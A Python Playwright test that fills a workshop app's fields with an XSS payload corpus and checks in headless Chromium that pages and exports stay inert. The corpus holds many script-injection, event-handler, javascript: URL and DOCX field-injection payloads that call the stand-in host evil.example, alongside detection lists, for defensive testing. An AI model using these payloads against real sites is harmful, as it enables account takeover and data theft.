"""An XSS payload corpus in every text field a person can fill, rendered in real headless Chromium on every
view that shows it: nothing runs, nothing loads from outside, and plain text is shown as typed.

One workshop is filled through the app's own forms and endpoints (with the page's CSRF token): the title,
place and introduction, a persona written for the day (name, role, card, background, questions), the group
names, two rounds (name and prompt), tag labels, theme names, follow-up items (text, responsible role,
Markdown note), the report's organisers and Markdown texts, a share link's label, the participants' display
names, their contributions (the whole corpus, batched into a few posts), a facilitator's edit and a merge.

Then the phones (360×740), the wall, the dashboard and the theme board watch the posts arrive (drawn by the
scripts), and every view is loaded once more (drawn by the server): phone pages, group picker, join and edit
pages, wall, dashboard, workshop and plan pages, tags, themes, follow-ups and their report, the report, its
editor and links page, the share-link report and follow-up report, privacy pages.

Each payload N sets ``window.__pwned_N`` (a few call ``alert(N)`` or log ``PWNED_N``) and tries to load from
``pN.evil.example``. Every browser context routes ``**/*``: a request that would leave localhost is recorded
and aborted; WebSockets, dialogs and failed requests are recorded too; an init script records every
``securitypolicyviolation`` (a violation means something *tried* to run or load). After each load a scan of
the DOM (``<template>`` contents included) looks for markup that came from a payload even where the CSP
would have stopped it from running: event-handler attributes, ``javascript:``/``data:`` URLs, frames,
objects, ``<base>``, ``<meta http-equiv>``, ``<style>``, foreign ``src``/``href``/``action``. Plain-text fields
must appear literally (whitespace-normalised) in the page's text, its title or its form values; each
contribution's card text must equal what was posted, character for character.

The downloads keep the corpus inert too: the Markdown file (rendered by a viewer that lets raw HTML through),
the DOCX (no external relationships, no injected fields, every contribution literal) and the PDF (no
JavaScript or launch actions, links only http/https/mailto); the follow-up register's Markdown and DOCX.

Service workers are blocked in these contexts so that every request passes the route (the phone's offline
cache is covered by tests/browser/test_browser.py). Server, browser and page fixtures come from tests/browsing.py and tests/browser/conftest.py.
Screenshots: ``test-artifacts/xss-*.png``.
"""

from __future__ import annotations

import io
import json
import re
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlencode, urlsplit
from xml.etree import ElementTree

import pytest

pytest.importorskip("playwright.sync_api")
from browsing import (  # noqa: E402
    FACILITATOR,
    ONLINE,
    PHONE,
    WALL,
    Pages,
    Server,
    join,
    pick_group,
    screenshot,
)
from playwright.sync_api import BrowserContext, Page, expect  # noqa: E402
from playwright.sync_api import Error as PlaywrightError  # noqa: E402

pytestmark = [pytest.mark.browser, pytest.mark.rendering]

ROOT = Path(__file__).resolve().parents[2]
EVIL = "evil.example"
LOCAL_HOSTS = {"localhost", "127.0.0.1"}

# {g}: a global of its own (window.__pwned_N); {h}: a host of its own (pN.evil.example); {n}: N.
TEMPLATES = [
    "<script>{g}=1;fetch('//{h}/s')</script>",
    "<img src=//{h}/i.png onerror={g}=1>",
    "<svg onload={g}=1><image href=//{h}/s.png /></svg>",
    "<body onload={g}=1 background=//{h}/b.png>",
    "<details open ontoggle={g}=1>x</details>",
    "[klikk](javascript:{g}=1)",
    "![sporing](https://{h}/pixel.png)",
    "[data](data:text/html,<script>{g}=1</script>)",
    "&lt;img src=//{h}/ onerror={g}=1&gt; &#60;script&#62;{g}=1&#60;/script&#62;",
    "</textarea><img src=//{h}/ onerror={g}=1>",
    "</title><script>{g}=1</script>",
    '" autofocus onfocus="{g}=1" x="',
    "' onmouseover='{g}=1' x='",
    "{{7*7}} ${7*7} #{7*7} {{constructor.constructor('{g}=1')()}}",
    "<style>@import url(//{h}/a.css);</style>",
    '<p style="background:url(//{h}/bg.png)">bg</p>',
    '<meta http-equiv=refresh content="0;url=//{h}/">',
    "<base href=//{h}/>",
    '<iframe srcdoc="<script>parent.{g}=1</script>" src=//{h}/></iframe>',
    "\u202egnp.exe\u202c \u200f{g} \u202eRTL\u202c",
    "<a href=//{h}/>lenke</a>",
    '<noscript><p title="</noscript><img src=//{h}/ onerror={g}=1>">',
    "<object data=//{h}/x.swf></object><embed src=//{h}/e>",
    "<link rel=stylesheet href=//{h}/l.css>",
    "<form action=//{h}/><button formaction=javascript:{g}=1>x</button></form>",
    "<input autofocus onfocus={g}=1>",
    "<math><mtext><table><mglyph><style><img src=//{h}/ onerror={g}=1>",
    "<svg><animate onbegin={g}=1 attributeName=x dur=1s>",
    "<video><source onerror={g}=1 src=//{h}/v.mp4></video>",
    "%3Cscript%3E{g}=1%3C/script%3E",
    "<IMG SRC=JaVaScRiPt:{g}=1><img src=&#106;avascript:{g}=1>",
    '"}</script><script>{g}=1</script>',
    "]]><!--<script>{g}=1</script>--><![CDATA[",
    '[t](https://{h}/ "t\\" onmouseover=\\"{g}=1")',
    "[r][{n}]\n\n[{n}]: javascript:{g}=1",
    '<a href="jav&#x09;ascript:{g}=1">tab</a>',
    '</w:t></w:r><w:r><w:fldSimple w:instr="INCLUDEPICTURE &quot;https://{h}/d.png&quot; \\d"/></w:r><w:r><w:t>',
    "$& $' $` $$ {name} %(name)s %s",
    "<img src=x onerror=alert({n})>",
    "<script>console.log('PWNED_{n}')</script>",
    "javascript:{g}=1 https://{h}/plain <https://{h}/auto>",
    '\\"><script>{g}=1</script>',
    "<x onclick={g}=1>klikk</x><svg><a xlink:href=javascript:{g}=1><text>a</text></a></svg>",
    "<template><img src=//{h}/ onerror={g}=1></template><slot></slot>",
]


def _payload(n: int, template: str) -> str:
    return template.replace("{g}", f"__pwned_{n}").replace("{h}", f"p{n}.{EVIL}").replace("{n}", str(n))


CORPUS = [_payload(i + 1, t) for i, t in enumerate(TEMPLATES)]
LONG = "Æ" * 300 + _payload(len(CORPUS) + 1, "<img src=//{h}/ onerror={g}=1>") + "ø" * 300
ALL_PAYLOADS = [*CORPUS, LONG]


def squash(text: str) -> str:
    return " ".join(text.split())


class Cursor:
    """Hands out payloads in turn, packed into a field's length limit, so every field gets different ones."""

    def __init__(self, items: list[str]) -> None:
        self.items = items
        self.i = 0

    def take(self, limit: int, *, sep: str = " ", single_line: bool = True, most: int = 99) -> str:
        out: list[str] = []
        size = 0
        for _ in range(len(self.items)):
            p = self.items[self.i % len(self.items)]
            self.i += 1
            if single_line and "\n" in p:
                continue
            extra = len(p) + (len(sep) if out else 0)
            if size + extra <= limit:
                out.append(p)
                size += extra
                if len(out) >= most:
                    break
            elif out:
                self.i -= 1  # the next field starts with it
                break
        assert out, f"no payload fits in {limit} characters"
        return sep.join(out)


def packs(items: list[str], limit: int, sep: str = "\n") -> list[str]:
    """The whole corpus in as few texts of at most ``limit`` characters as it takes."""
    out: list[str] = []
    cur = ""
    for p in items:
        cand = cur + sep + p if cur else p
        if len(cand) <= limit:
            cur = cand
        else:
            out.append(cur)
            cur = p
    if cur:
        out.append(cur)
    return out


# -- watching the browser ----------------------------------------------------------------------------

CSP_LISTENER = """
(() => {
  const seen = [];
  const add = (directive, blocked, sample, where) => {
    const line = `${directive} blocked=${blocked || '-'} sample=${(sample || '').slice(0, 80)} at ${where}`;
    if (!seen.includes(line)) seen.push(line);
  };
  document.addEventListener('securitypolicyviolation', e =>
    add(e.effectiveDirective, e.blockedURI, e.sample, `${e.sourceFile || '-'}:${e.lineNumber}`), true);
  // Also violations of elements not in the document (HTML parsed into a detached node), which fire no event.
  const take = reports => reports.forEach(r =>
    add(r.body.effectiveDirective, r.body.blockedURL, r.body.sample, `${r.body.sourceFile || '-'}:${r.body.lineNumber}`));
  const observer = new ReportingObserver(take, {types: ['csp-violation'], buffered: true});
  observer.observe();
  Object.defineProperty(window, '__pvCsp', {value: () => { take(observer.takeRecords()); return seen.slice(); }});
})();
"""

# Runs in the page: what a payload left behind.
INSPECT = """
() => {
  const here = location.origin;
  const injected = [];
  const urlAttrs = new Set(['href', 'src', 'action', 'formaction', 'data', 'poster', 'srcset', 'cite',
    'background', 'xlink:href', 'ping', 'codebase', 'manifest', 'lowsrc', 'dynsrc', 'longdesc']);
  const forbidden = new Set(['iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'base', 'style',
    'math', 'video', 'audio', 'source', 'noscript', 'portal', 'xmp', 'listing', 'plaintext', 'noembed',
    'noframes', 'slot', 'x', 'mglyph', 'mtext', 'animate', 'image']);
  const where = el => el.tagName.toLowerCase() + (el.id ? '#' + el.id : '') +
    (el.closest('[data-field]') ? ' in [data-field=' + el.closest('[data-field]').dataset.field + ']' : '');
  function badUrl(el, name, value) {
    const v = value.trim();
    if (/^\\s*(javascript|vbscript|data|file|blob)\\s*:/i.test(v.replace(/[\\s\\u0000-\\u001f]/g, ''))) {
      return !(el.tagName === 'IMG' && /^data:image\\//i.test(v));
    }
    if (v.includes('__pwned')) return true;
    let url;
    try { url = new URL(v, document.baseURI); } catch (e) { return true; }
    if (url.origin === here || url.protocol === 'mailto:') return false;
    // A link a facilitator wrote in Markdown: kept on purpose, with rel=nofollow by the sanitizer.
    if (el.tagName === 'A' && name === 'href' && /^https?:$/.test(url.protocol) &&
        (el.getAttribute('rel') || '').split(/\\s+/).includes('nofollow')) return false;
    // Links of the app itself to other sites (none go to the payloads' hosts).
    if (el.tagName === 'A' && name === 'href' && /^https?:$/.test(url.protocol) && !url.hostname.endsWith('evil.example')) return false;
    return true;
  }
  function walk(root) {
    for (const el of root.querySelectorAll('*')) {
      const tag = el.tagName.toLowerCase();
      if (forbidden.has(tag)) injected.push('element <' + tag + '> ' + where(el));
      if (tag === 'meta' && el.hasAttribute('http-equiv')) injected.push('meta http-equiv ' + el.outerHTML.slice(0, 100));
      if (tag === 'script') {
        const type = (el.getAttribute('type') || '').toLowerCase();
        if (el.src ? new URL(el.src).origin !== here : type !== 'application/json')
          injected.push('script ' + (el.src || el.textContent.slice(0, 80)));
      }
      for (const a of el.attributes) {
        const name = a.name.toLowerCase();
        if (name.startsWith('on')) injected.push(`${name}= on ${where(el)}: ${a.value.slice(0, 60)}`);
        if (name === 'srcdoc') injected.push(`${name}= on ${where(el)}`);
        if (name === 'style' && /url\\(|expression|@import/i.test(a.value)) injected.push(`style= on ${where(el)}: ${a.value.slice(0, 60)}`);
        if (urlAttrs.has(name) && badUrl(el, name, a.value)) injected.push(`${name}=${a.value.slice(0, 80)} on ${where(el)}`);
      }
      if (tag === 'template') walk(el.content);
    }
  }
  walk(document);
  const texts = [];
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT, {
    acceptNode: n => n.parentElement && n.parentElement.closest('script, style, template')
      ? NodeFilter.FILTER_REJECT : NodeFilter.FILTER_ACCEPT,
  });
  while (walker.nextNode()) texts.push(walker.currentNode.nodeValue);
  const values = [...document.querySelectorAll('input, textarea, select option')].map(e => e.value || e.textContent || '');
  return {
    pwned: Object.getOwnPropertyNames(window).filter(k => k.startsWith('__pwned')),
    csp: window.__pvCsp ? window.__pvCsp() : ['(the CSP listener did not run)'],
    injected,
    text: texts.join(' '),
    title: document.title,
    values,
    url: location.href,
    cards: [...document.querySelectorAll('[data-field=text]')].map(e => e.textContent),
  };
}
"""


def _local(url: str) -> bool:
    parts = urlsplit(url)
    return parts.scheme in ("http", "https", "ws", "wss") and parts.hostname in LOCAL_HOSTS


@dataclass
class Watch:
    """Everything that would show a payload at work, over every page of the test."""

    pages: Pages
    offsite: list[str] = field(default_factory=list)  # reached the network layer: the route aborted them
    attempts: list[str] = field(default_factory=list)  # failed requests to other hosts (the CSP or the route)
    sockets: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)
    markers: list[str] = field(default_factory=list)
    problems: list[str] = field(default_factory=list)
    checked: list[str] = field(default_factory=list)

    def context(self, **options: Any) -> BrowserContext:
        ctx = self.pages.context(service_workers="block", **options)
        ctx.add_init_script(CSP_LISTENER)
        ctx.route("**/*", self._route)
        return ctx

    def _route(self, route: Any) -> None:
        url = route.request.url
        if _local(url):
            route.continue_()
        else:
            self.offsite.append(f"{route.request.resource_type} {url}")
            route.abort()

    def page(self, ctx: BrowserContext, name: str) -> Page:
        page = self.pages.page(ctx, name)

        def dialog(d: Any) -> None:
            self.dialogs.append(f"{name}: {d.type} {d.message!r}")
            try:
                d.dismiss()
            except PlaywrightError as e:  # the page navigated or closed it first: it was shown, which is what counts
                if "No dialog is showing" not in str(e):
                    raise

        page.on("dialog", dialog)
        page.on("websocket", lambda ws: None if _local(ws.url) else self.sockets.append(f"{name}: {ws.url}"))
        page.on("requestfailed", lambda r: None if _local(r.url) else self.attempts.append(f"{name}: {r.url} ({r.failure})"))
        page.on("console", lambda m: "PWNED" in m.text and self.markers.append(f"{name}: console {m.text!r}"))
        return page

    def inspect(self, page: Page, view: str, literal: list[str] = (), cards: list[str] = ()) -> dict[str, Any]:
        """Check one view as it is now: no payload ran or left markup; ``literal`` texts are shown as typed;
        ``cards`` are contributions whose card text must equal the posted text exactly."""
        state = page.evaluate(INSPECT)
        self.checked.append(view)
        for k in state["pwned"]:
            self.problems.append(f"{view}: window.{k} is set (payload {k.rsplit('_', 1)[-1]} ran)")
        for v in state["csp"]:
            self.problems.append(f"{view}: CSP violation: {v}")
        for v in state["injected"]:
            self.problems.append(f"{view}: injected markup: {v}")
        shown = squash(" ".join([state["text"], state["title"], *state["values"]]))
        for text in literal:
            if squash(text) not in shown:
                self.problems.append(f"{view}: not shown literally: {text[:90]!r}")
        for text in cards:
            if text not in state["cards"]:
                self.problems.append(f"{view}: no card with exactly the text {text[:90]!r}")
        return state

    def shows(self, page: Page, view: str, selector: str, text: str) -> None:
        """One element that scripts fill in (``selector``) shows ``text`` as typed."""
        found = page.locator(selector).evaluate_all("els => els.map(e => e.textContent)")
        if not any(squash(text) in squash(t) for t in found):
            self.problems.append(f"{view}: {selector} does not show {text[:60]!r} as typed, but {[t[:60] for t in found]}")

    def report(self) -> str:
        lines = [*self.problems]
        lines += [f"request left localhost: {u}" for u in self.offsite]
        lines += [f"request to another host tried: {u}" for u in self.attempts]
        lines += [f"WebSocket to another host: {u}" for u in self.sockets]
        lines += [f"dialog opened: {d}" for d in self.dialogs]
        lines += [f"marker logged: {m}" for m in self.markers]
        return "\n".join(lines)


def settle(page: Page) -> None:
    """Wait until the page has no network activity (so an injected image or stylesheet would have been
    requested by now) and, on a live page, until its socket is connected."""
    page.wait_for_load_state("networkidle")
    if page.locator("[data-connection]").count():
        expect(page.locator(ONLINE)).to_be_visible()


# -- the facilitator's side, through the app's own endpoints -----------------------------------------


@dataclass
class Facilitator:
    ctx: BrowserContext
    page: Page
    base: str

    def _csrf(self) -> str:
        return self.page.locator('meta[name="csrf-token"]').get_attribute("content") or ""

    def form(self, path: str, pairs: list[tuple[str, str]]) -> Any:
        """A plain form post (as without JavaScript); the redirect is followed; no error may be flashed."""
        body = urlencode([*pairs, ("csrf_token", self._csrf())])
        resp = self.ctx.request.post(
            self.base + path, data=body, headers={"Content-Type": "application/x-www-form-urlencoded"}
        )
        html = resp.text()
        refused = re.findall(r'class="(?:flash flash-error|field-error)"[^>]*>(.*?)</p>', html, re.S)
        assert resp.ok and not refused, f"{path}: HTTP {resp.status}, refused the input: {refused}"
        return resp

    def json(self, path: str, payload: dict[str, Any]) -> dict[str, Any]:
        """A fetch() as the page's scripts make it: JSON, the CSRF header."""
        resp = self.ctx.request.post(
            self.base + path,
            data=json.dumps(payload),
            headers={"Content-Type": "application/json", "Accept": "application/json", "X-CSRFToken": self._csrf()},
        )
        assert resp.ok, f"{path}: HTTP {resp.status} {resp.text()[:1000]}"
        return resp.json()


def _library_keys() -> list[str]:
    from sessions.personas.library import load_library

    specs, errors = load_library(ROOT / "personas")
    assert not errors, errors
    return sorted(specs)


@dataclass
class Filled:
    """What was typed into each field (as stored: single-line fields have their whitespace collapsed)."""

    title: str = ""
    place: str = ""
    intro: str = ""
    persona: dict[str, Any] = field(default_factory=dict)
    groups: list[str] = field(default_factory=list)
    rounds: list[tuple[str, str]] = field(default_factory=list)
    tags: list[str] = field(default_factory=list)
    themes: list[str] = field(default_factory=list)
    followup: dict[str, str] = field(default_factory=dict)
    texts: dict[str, str] = field(default_factory=dict)
    link_label: str = ""
    names: list[str] = field(default_factory=list)
    posts_a: list[str] = field(default_factory=list)
    posts_b: list[str] = field(default_factory=list)
    edited: str = ""


def _cards_on(page: Page) -> list[str]:
    return page.locator("[data-field=text]").evaluate_all("els => els.map(e => e.textContent)")


def _post(page: Page, kind: str, text: str) -> None:
    before = page.locator(".card").count()
    page.locator(f"label[for='kind-{kind}']").click()
    page.fill("#text", text)
    page.locator("[data-post-form] button[type=submit]").click()
    expect(page.locator(".card")).to_have_count(before + 1)


def test_payload_corpus_stays_inert_everywhere(server: Server, pages: Pages, facilitator_state: dict[str, Any]) -> None:
    watch = Watch(pages)
    cur = Cursor(CORPUS)
    f = Filled()
    base = server.base

    # -- the facilitator prepares the workshop ------------------------------------------------------
    fac_ctx = watch.context(viewport=FACILITATOR, storage_state=facilitator_state)
    fac = watch.page(fac_ctx, "facilitator")
    fac.goto(base + "/workshops")
    me = Facilitator(fac_ctx, fac, base)
    keys = _library_keys()[:2]

    f.title = cur.take(200)
    f.place = cur.take(200)
    f.intro = "\n".join(CORPUS[:30])[:4000]
    resp = me.form(
        "/workshops/new",
        [("title", f.title), ("date", "2025-05-20"), ("place", f.place), ("intro", f.intro), ("group_count", "3")]
        + [("personas", k) for k in keys],
    )
    ws_id = int(re.search(r"/workshops/(\d+)", resp.url).group(1))  # type: ignore[union-attr]
    wpath = f"/workshops/{ws_id}"

    questions = [cur.take(180) + " – kva trengst?" for _ in range(3)]
    f.persona = {
        "name": cur.take(80),
        "role": cur.take(120),
        "card": (cur.take(360) + " Ein person med mykje på hjartet.")[:400],
        "background": "\n\n".join(CORPUS[10:40])[:2990],
        "questions": questions,
    }
    me.form(
        f"{wpath}/personas/new",
        [(k, f.persona[k]) for k in ("name", "role", "card", "background")] + [("age", "44"), ("questions", "\n".join(questions))],
    )

    fac.goto(base + wpath)
    rows = fac.locator("#groups tbody tr")
    expect(rows).to_have_count(3)
    group_ids = [int(re.search(r"/groups/(\d+)$", rows.nth(i).locator("form").first.get_attribute("action") or "").group(1)) for i in range(3)]  # type: ignore[union-attr]
    options = rows.first.locator("select[name=persona_id] option")
    persona_ids = sorted(int(v) for v in options.evaluate_all("os => os.map(o => o.value)") if v)
    custom_id, library_ids = persona_ids[-1], persona_ids[:-1]  # the persona written for the day was made last
    for i, gid in enumerate(group_ids):
        name = cur.take(60)
        f.groups.append(name)
        pid = custom_id if i == 0 else library_ids[(i - 1) % len(library_ids)]
        me.form(f"{wpath}/groups/{gid}", [("name", name), ("persona_id", str(pid))])

    tag_ids = []
    for category in ("measure", "level", "need"):
        label = cur.take(40, most=1)
        f.tags.append(squash(label))
        tag_ids.append(me.json(f"{wpath}/tags", {"category": category, "label": label})["tag"]["id"])

    for kind in ("both", "voting"):
        name, prompt = cur.take(80), cur.take(500, sep="\n", single_line=False)
        if kind == "voting":
            name = _payload(99, "$& $' $` {name} ") + name[:60]
            name = name[:80].strip()
        f.rounds.append((name, prompt))
        me.json(f"{wpath}/rounds", {"name": name, "prompt": prompt, "minutes": 30, "type": kind})

    me.form(f"{wpath}/open", [])
    me.json(f"{wpath}/rounds/start", {})

    f.texts = {
        "organisers": cur.take(300),
        "summary": "\n\n".join(ALL_PAYLOADS),
        "method_note": "\n\n".join(CORPUS[::2])[:5000],
        "invite_note": "\n".join(CORPUS[1::2])[:5000],
    }
    me.json(f"{wpath}/report/texts", f.texts)

    f.link_label = cur.take(100)
    made = me.form(f"{wpath}/report/links", [("label", f.link_label), ("expires_on", "")]).text()
    share_url = re.search(r'value="([^"]+)" data-new-share-link', made).group(1)  # type: ignore[union-attr]
    fac.goto(base + f"{wpath}/report/links")
    assert share_url.startswith(base + "/r/"), share_url
    watch.inspect(fac, "share links page", literal=[f.link_label, f.title])

    fac.goto(base + wpath)
    code = fac.locator("[data-join-code]").get_attribute("data-join-code") or ""
    wall_url = fac.locator("[data-wall-link]").get_attribute("href") or ""
    watch.inspect(fac, "workshop page", literal=[f.title, f.place, f.intro, *f.groups, f.persona["name"]])

    # -- live: the wall, the dashboard and the theme board watch; two phones post --------------------
    wall_ctx = watch.context(viewport=WALL)
    wall = watch.page(wall_ctx, "wall")
    wall.goto(wall_url)
    settle(wall)
    fac.goto(base + f"{wpath}/live")
    settle(fac)
    board = watch.page(fac_ctx, "theme board")
    board.goto(base + f"{wpath}/themes")
    settle(board)

    f.names = [cur.take(60), cur.take(60)]
    phone_ctx_a = watch.context(**PHONE)
    phone_a = watch.page(phone_ctx_a, "phone A")
    join(phone_a, server, code, name=f.names[0])
    watch.inspect(phone_a, "group picker", literal=[*f.groups, f.persona["name"]])
    group_a = pick_group(phone_a, 0)
    phone_ctx_b = watch.context(**PHONE)
    phone_b = watch.page(phone_ctx_b, "phone B")
    join(phone_b, server, code, name=f.names[1])
    group_b = pick_group(phone_b, 1)
    assert (group_a, group_b) == (group_ids[0], group_ids[1])

    f.posts_a = [*packs(CORPUS, 1000), LONG]
    f.posts_b = packs(list(reversed(CORPUS)), 1000)[:2]
    for i, text in enumerate(f.posts_a):
        _post(phone_a, "need" if i % 2 == 0 else "solution", text)
    for i, text in enumerate(f.posts_b):
        _post(phone_b, "solution" if i % 2 == 0 else "need", text)
    every = [*f.posts_a, *f.posts_b]

    for page in (wall, fac, board):
        expect(page.locator("[data-field=text]")).to_have_count(len(every))
    for page, name, posts in ((phone_a, "phone A (live)", f.posts_a), (phone_b, "phone B (live)", f.posts_b)):
        watch.inspect(page, name, literal=[f.names[0] if posts is f.posts_a else f.names[1]], cards=posts)
        stray = [t for t in _cards_on(page) if t not in posts]
        assert not stray, f"{name} shows another table's posts"
    watch.inspect(wall, "wall (live)", literal=[*f.names, f.groups[0], f.groups[1]], cards=every)
    watch.inspect(fac, "dashboard (live)", literal=[*f.names], cards=every)
    watch.inspect(board, "theme board (live)", cards=every)
    for page, view in ((fac, "dashboard (live)"), (phone_a, "phone A (live)"), (wall, "wall (live)")):
        watch.shows(page, view, "[data-round-name]", f.rounds[0][0])
        watch.shows(page, view, "[data-round-prompt]", f.rounds[0][1])
    watch.shows(fac, "dashboard (live)", "[data-run-next]", f.rounds[1][0])
    watch.shows(wall, "wall (live)", "[data-pause-next]", f.rounds[1][0])
    screenshot(wall, "xss-wall-lanes.png", full_page=False)

    # -- what facilitators and participants do with the posts -------------------------------------------
    ids = dict(
        fac.locator(".card").evaluate_all(
            "cs => cs.map(c => [c.querySelector('[data-field=text]').textContent, Number(c.dataset.id)])"
        )
    )
    a_ids = [ids[t] for t in f.posts_a]
    b_ids = [ids[t] for t in f.posts_b]
    for cid, tag in zip(a_ids, tag_ids, strict=False):
        me.json(f"{wpath}/contributions/{cid}/tags", {"tag_id": tag, "on": True})
    phone_csrf = phone_a.locator('meta[name="csrf-token"]').get_attribute("content") or ""
    own = phone_ctx_a.request.post(
        base + f"/w/{ws_id}/contributions/{a_ids[-1]}/tags",
        data=json.dumps({"tag_id": tag_ids[-1], "on": True}),
        headers={"Content-Type": "application/json", "Accept": "application/json", "X-CSRFToken": phone_csrf},
    )
    assert own.ok, own.text()
    f.edited = cur.take(1000, sep="\n", single_line=False)
    me.json(f"{wpath}/contributions/{b_ids[0]}/edit", {"text": f.edited})
    me.json(f"{wpath}/contributions/{a_ids[2]}/merge", {"into": a_ids[0]})  # both needs
    me.json(f"{wpath}/spotlight", {"contribution_id": a_ids[0]})
    for cid in (a_ids[0], b_ids[1]):
        name = cur.take(80)
        f.themes.append(name)
        me.json(f"{wpath}/themes", {"name": name, "contribution_id": cid})
    f.followup = {
        "text": cur.take(1000, sep="\n", single_line=False),
        "responsible": cur.take(120),
        "note": "\n\n".join(CORPUS[5:35])[:5000],
    }
    me.form(
        f"{wpath}/followups",
        [("text", f.followup["text"]), ("responsible", f.followup["responsible"]), ("deadline", "2026-09-01"),
         ("status", "open"), ("note", f.followup["note"])],
    )
    solution = f.posts_a[1]
    me.form(f"{wpath}/followups/from-proposal", [("contribution_id", str(ids[solution]))])

    shown_now = [t for t in every if t not in (f.posts_b[0], f.posts_a[2])] + [f.edited]
    expect(wall.locator("[data-spotlight-card] [data-field=text]")).to_have_text(f.posts_a[0])
    expect(fac.locator(f"#c{b_ids[0]} [data-field=text]")).to_have_text(f.edited)
    expect(fac.locator(f"#c{a_ids[0]} [data-field=merged] li")).to_have_count(1)
    expect(fac.locator(f"#c{a_ids[0]} [data-field=tags] li")).to_have_count(1)
    expect(board.locator("[data-theme]")).to_have_count(2)
    watch.inspect(wall, "wall (live, after moderation)", literal=[f.tags[0]], cards=shown_now)
    watch.inspect(fac, "dashboard (live, after moderation)", literal=[f.tags[0], *f.themes, f.posts_b[0]], cards=shown_now)
    watch.inspect(board, "theme board (live, after themes)", literal=f.themes, cards=[t for t in shown_now if t != f.edited])
    watch.inspect(phone_a, "phone A (live, after tags)", literal=[f.tags[0], f.tags[-1]])
    for tag in (f.tags[0], f.tags[-1]):
        watch.shows(phone_a, "phone A (live, after tags)", "[data-field=tags] li", tag)
        watch.shows(fac, "dashboard (live, after tags)", "[data-field=tags] li", tag)
    for theme in f.themes:
        watch.shows(board, "theme board (live, after themes)", "[data-theme] [data-field=name]", theme)
        watch.shows(fac, "dashboard (live, after themes)", "[data-field=name]", theme)
    screenshot(phone_a, "xss-phone-live.png")

    # -- every view, drawn by the server ---------------------------------------------------------------
    round_name, round_prompt = f.rounds[0]
    persona_texts = [f.persona["name"], f.persona["role"], f.persona["card"], *f.persona["questions"], f.persona["background"]]
    phone_a_url = base + f"/w/{ws_id}/g/{group_a}"
    views: list[tuple[Page, str, str, list[str], list[str]]] = [
        (phone_a, "phone A", phone_a_url, [f.groups[0], f.names[0], round_name, round_prompt, *persona_texts, f.tags[0]],
         [t for t in f.posts_a if t != f.posts_a[2]]),
        (phone_b, "phone B", base + f"/w/{ws_id}/g/{group_b}", [f.groups[1], f.names[1], round_name], [f.edited, f.posts_b[1]]),
        (phone_b, "group picker", base + f"/w/{ws_id}", [*f.groups, f.persona["name"]], []),
        (phone_a, "edit page", base + f"/w/{ws_id}/contributions/{a_ids[1]}/edit", [f.posts_a[1]], []),
        (phone_a, "participant privacy page", base + f"/w/{ws_id}/personvern", [], []),
        (wall, "wall", wall_url, [f.title, f.persona["name"], f.persona["role"], f.persona["card"], *f.names, f.groups[0],
                                  round_name, round_prompt, f.tags[0]], shown_now),
        (fac, "dashboard", base + f"{wpath}/live", [f.title, *f.names, *f.groups, round_name, f.rounds[1][0], *f.tags,
                                                     *f.themes, f.posts_b[0]], shown_now),
        (fac, "workshop list", base + "/workshops", [f.title], []),
        (fac, "workshop page", base + wpath, [f.title, f.place, f.intro, *f.groups, f.persona["name"], f.link_label], []),
        (fac, "plan", base + f"{wpath}/plan", [n for n, _ in f.rounds] + [p for _, p in f.rounds], []),
        (fac, "tags", base + f"{wpath}/tags", f.tags, []),
        (fac, "theme board", base + f"{wpath}/themes", f.themes, [t for t in shown_now if t != f.edited]),
        (fac, "follow-ups", base + f"{wpath}/followups", [f.followup["text"], f.followup["responsible"], solution], []),
        (fac, "follow-up report", base + f"{wpath}/followups/report", [f.followup["text"], f.followup["responsible"]], []),
        (fac, "report", base + f"{wpath}/report", [f.title, f.place, f.texts["organisers"], f.persona["name"], *f.groups[:2],
                                                   f.themes[0]], []),
        (fac, "report editor", base + f"{wpath}/report/edit", [f.texts[k] for k in ("organisers", "summary", "method_note", "invite_note")], []),
        (fac, "workshop privacy page", base + f"{wpath}/privacy", [f.title], []),
    ]
    shared_ctx = watch.context(viewport=FACILITATOR)
    shared = watch.page(shared_ctx, "share link")
    views += [
        (shared, "share-link report", share_url, [f.title, f.place, f.texts["organisers"], f.persona["name"]], []),
        (shared, "share-link follow-up report", share_url + "/followups", [f.followup["text"], f.followup["responsible"]], []),
        (shared, "join link", base + f"/j/{code}", [], []),
    ]
    for page, name, url, literal, card_texts in views:
        page.goto(url)
        settle(page)
        watch.inspect(page, name, literal=literal, cards=card_texts)
        if name in ("phone A", "wall", "report", "dashboard"):
            screenshot(page, f"xss-{name.replace(' ', '-')}.png", full_page=name != "wall")
        if name in ("report", "share-link report"):  # its items: every visible contribution, as text
            report_text = squash(page.evaluate("document.body.innerText"))
            for text in shown_now:
                if squash(text) not in report_text:
                    watch.problems.append(f"{name}: not shown literally: {text[:90]!r}")

    # The summary editor's live preview (the server's sanitized HTML, put in with innerHTML).
    fac.goto(base + f"{wpath}/report/edit")
    settle(fac)
    fac.fill("#summary", "\n\n".join(reversed(ALL_PAYLOADS)))
    expect(fac.locator("[data-save-state]")).to_have_attribute("data-state", "saved")
    expect(fac.locator("#summary-preview")).to_contain_text("<script>")
    watch.inspect(fac, "report editor (live preview)")

    _check_downloads(fac_ctx, base, wpath, f, shown_now)

    assert watch.report() == "", f"checked {len(watch.checked)} views:\n" + watch.report()
    assert pages.errors == [], "\n".join(pages.errors)


# -- downloads -------------------------------------------------------------------------------------------


def _get(ctx: BrowserContext, url: str) -> bytes:
    resp = ctx.request.get(url, timeout=120_000)
    assert resp.ok, f"{url}: HTTP {resp.status}"
    return resp.body()


def _markdown_is_inert(md: str, what: str, marker: str) -> None:
    import markdown

    assert not re.search(r"(?<!\\)<[A-Za-z/!?]", md), f"{what}: an unescaped tag: " + str(re.findall(r".{30}(?<!\\)<[A-Za-z/!?].{30}", md)[:3])
    assert not re.search(r"(?<!\\)!\[|(?<!\\)\]\((?:javascript|data|vbscript):", md, re.I), f"{what}: an image or a script link"
    html = markdown.markdown(md)  # a viewer that lets raw HTML through, as many do
    tags = re.findall(r"<\s*([A-Za-z][\w:-]*)([^>]*)>", html)
    allowed = {"p", "a", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "strong", "em", "code", "pre", "br", "hr", "blockquote", "table", "thead", "tbody", "tr", "th", "td"}
    assert {t.lower() for t, _ in tags} <= allowed, f"{what}: " + str({t for t, _ in tags} - allowed)
    for _tag, attrs in tags:
